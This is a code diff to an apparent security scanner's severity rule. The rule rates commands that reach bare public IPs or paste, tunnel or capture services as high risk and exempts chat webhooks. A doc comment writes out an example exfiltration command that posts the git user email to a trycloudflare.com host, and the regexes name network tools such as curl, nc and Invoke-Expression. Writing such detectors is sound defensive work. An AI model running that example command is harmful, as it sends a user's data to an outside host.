@@ -1,4 +1,5 @@
 import type { Severity } from '../../signal/schema.js';
+import { isSuspiciousEndpoint } from '../code/network-endpoints.js';
 import { findPipeToShell } from '../shell/pipe-to-shell.js';
 import { anyOf, inOrderOnALine } from '../util.js';
 
@@ -9,13 +10,19 @@ const DECODED_OR_FETCHED_AND_RUN = anyOf(
   /\bIEX\b|Invoke-Expression/i,
 );
 
+/** Chat webhooks: a notification's ordinary address, suspicious in automation only as any network use is. */
+const CHAT_WEBHOOK = /hooks\.slack\.com\/services|discord(?:app)?\.com\/api\/webhooks|api\.telegram\.org\/bot/i;
+
 /**
  * How much a command that automation runs on someone's machine deserves a look: high when it pipes a
- * download into a shell or decodes and runs hidden text, medium when it downloads or reaches the
- * network, `base` otherwise.
+ * download into a shell, decodes and runs hidden text, or reaches a bare public IP or a paste, tunnel
+ * or request-capture service (where stolen data goes: `curl -d "$(git config user.email)"
+ * https://x.trycloudflare.com`), medium when it downloads or reaches the network otherwise, `base`
+ * otherwise.
  */
 export function commandSeverity(command: string, base: Severity): Severity {
   if (findPipeToShell(command).length > 0 || DECODED_OR_FETCHED_AND_RUN.test(command)) return 'high';
+  if (isSuspiciousEndpoint(command) && !CHAT_WEBHOOK.test(command)) return 'high';
   if (/\b(?:curl|wget|nc|ncat|Invoke-WebRequest|iwr)\b|https?:\/\//i.test(command)) return base === 'high' ? 'high' : 'medium';
   return base;
 }
